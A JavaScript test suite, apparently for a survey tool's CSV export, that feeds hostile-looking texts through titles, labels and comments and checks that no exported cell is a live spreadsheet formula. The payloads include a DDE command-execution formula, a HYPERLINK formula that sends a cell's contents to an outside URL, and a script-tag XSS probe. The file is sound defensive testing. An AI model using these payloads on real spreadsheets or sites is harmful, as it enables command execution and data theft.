// Goal: whatever people write into titles, labels, leads and comments, no cell of any table is one that a spreadsheet would run, and every text reads
// back as it was by the documented rule.
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { parseCsv } from './lib/csv.mjs';
import { keepAlive } from './lib/http.mjs';
import { examplePanel, ROUND } from './lib/panel.mjs';
import { poll } from './lib/poll.mjs';
import { Collector, freshFolder } from './lib/programs.mjs';
import { enrolAll, get, makeToken, sendAll, tablePath, unguard } from './lib/reading.mjs';

const TEXTS = [
  '=1+1',
  '=cmd|\'/C calc\'!A0',
  '=HYPERLINK("http://example.org/?"&A1,"klik")',
  '+31 70 123 45 67',
  '-2+3',
  '-',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r\n=1+1',
  '"=1+1"',
  'zij zei: "ja"',
  'a,b;c|d',
  'een\nregel\r\nen een',
  '\u202e=1+1 (rechts naar links)',
  '\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd',
  '\u{1f3db}\ufe0f\u{10348}\u{2070e}',
  'caf\u00e9 en cafe\u0301',
  '\ufeff=1+1',
  '<script>alert(1)</script>',
  '%s%n\\0 \\" \u2028',
  "'s ochtends",
];

const quote = (text) => `"${text.replaceAll('"', '""')}"`;
const actionsCsv = () =>
  `id,title,track,lead,related,status\n${TEXTS.map((t, i) => `H-${i},${[t, t, t, t].map(quote).join(',')},running`).join('\n')}\n`;

let collector, token, texts;
before(async () => {
  const panel = examplePanel();
  panel.title.nl = TEXTS[0];
  panel.disclosure = { minRespondents: 1, roundTo: 1 };
  const [questionnaire] = panel.questionnaires;
  questionnaire.questions[0].min = -2;
  questionnaire.questions[0].max = 2;
  for (const [i, question] of questionnaire.questions.entries()) {
    question.label = { nl: TEXTS[i], en: TEXTS[i + 3] };
    for (const [o, option] of (question.options ?? []).entries()) option.label = { nl: TEXTS[o], en: TEXTS[o + 5] };
  }
  questionnaire.questions[1].options[0].value = '-1';
  questionnaire.questions[2].when.equals = '-1';
  panel.rounds[0].title = { nl: TEXTS[2] };
  collector = new Collector(freshFolder('reading-hostile'));
  await collector.importPanel(panel);
  const path = join(collector.folder, 'actions.csv');
  writeFileSync(path, actionsCsv());
  await collector.importActions(path);
  collector.codes = await collector.invitations(2);
  await collector.start();
  const agent = keepAlive();
  const members = await enrolAll(collector, agent);
  const signed = members.flatMap((member, m) =>
    TEXTS.map((text, i) =>
      member.response(ROUND, `H-${i}`, { importance: m === 0 ? -2 : 1, noticed: 'no', comment: text }),
    ),
  );
  await sendAll(collector, signed, agent);
  agent.destroy();
  texts = Object.fromEntries(TEXTS.map((text, i) => [`H-${i}`, text]));
  token = await makeToken(collector, 'programme', 'team', '--exact');
  await poll('the token to be known', 5, async () => (await get(collector, tablePath('summary'), token)).status === 200);
});
after(async () => {
  await collector?.stop();
});

const isNumber = (cell, decimal) => new RegExp(`^-?\\d+(\\${decimal}\\d{4})?$`).test(cell);

async function tableOf(table, profile) {
  const answer = await get(collector, tablePath(table, `?profile=${profile}`), token);
  assert.equal(answer.status, 200, answer.text);
  const excel = profile === 'excelNl';
  assert.equal(answer.text.startsWith('\ufeff'), excel);
  const [header, ...rows] = parseCsv(answer.text, excel ? ';' : ',');
  for (const row of rows) assert.equal(row.length, header.length);
  return { header, rows, decimal: excel ? ',' : '.' };
}

test('no cell is one that a spreadsheet runs', async () => {
  for (const profile of ['rfc4180', 'excelNl'])
    for (const table of ['summary', 'questions', 'options', 'comments']) {
      const { header, rows, decimal } = await tableOf(table, profile);
      for (const cell of [header, ...rows].flat())
        assert.ok(!/^[=+\-@\t\r]/.test(cell) || isNumber(cell, decimal), `${table}: ${JSON.stringify(cell)}`);
    }
});

test('titles, tracks, leads and relations read back as they were', async () => {
  for (const profile of ['rfc4180', 'excelNl']) {
    const { header, rows } = await tableOf('summary', profile);
    assert.equal(rows.length, TEXTS.length);
    for (const row of rows)
      for (const name of ['title', 'track', 'lead', 'related'])
        assert.equal(unguard(row[header.indexOf(name)]), texts[row[1]]);
  }
  for (const row of (await get(collector, tablePath('summary'), token, { Accept: 'application/json' })).json())
    assert.equal(row.title, texts[row.action]);
});

test('comments read back as they were', async () => {
  for (const profile of ['rfc4180', 'excelNl']) {
    const { rows } = await tableOf('comments', profile);
    assert.equal(rows.length, 2 * TEXTS.length);
    for (const [, action, , , text] of rows) assert.equal(unguard(text), texts[action]);
  }
  for (const row of (await get(collector, tablePath('comments'), token, { Accept: 'application/json' })).json())
    assert.equal(row.text, texts[row.action]);
});

test('a scale below zero stays a number; an option that looks like one is text', async () => {
  const { header, rows } = await tableOf('options', 'rfc4180');
  const at = (row, name) => row[header.indexOf(name)];
  const scale = rows.find((row) => at(row, 'question') === 'importance' && at(row, 'option') === '-2');
  assert.equal(at(scale, 'count'), '1');
  assert.ok(rows.some((row) => at(row, 'question') === 'noticed' && at(row, 'option') === "'-1"));
  const json = (await get(collector, tablePath('options'), token, { Accept: 'application/json' })).json();
  assert.equal(json[0].option, -2);
  assert.ok(json.some((row) => row.question === 'noticed' && row.option === '-1'));
});

test('metadata holds every label as it was', async () => {
  const out = await collector.export(ROUND, 'out', '--comments', '--profile', 'excel-nl');
  const [table] = JSON.parse(readFileSync(join(out, 'summary.csv-metadata.json'))).tables;
  const column = table.tableSchema.columns.find((c) => c.name === 'importance_mean');
  assert.equal(column.titles.nl, `${TEXTS[0]}: Gemiddelde`);
  assert.equal(column.titles.en, `${TEXTS[3]}: Mean`);
  const document = JSON.parse(readFileSync(join(out, 'datapackage.json')));
  assert.equal(document.titles.nl, TEXTS[0]);
  assert.equal(document.burgerpanel.round.titles.nl, TEXTS[2]);
});
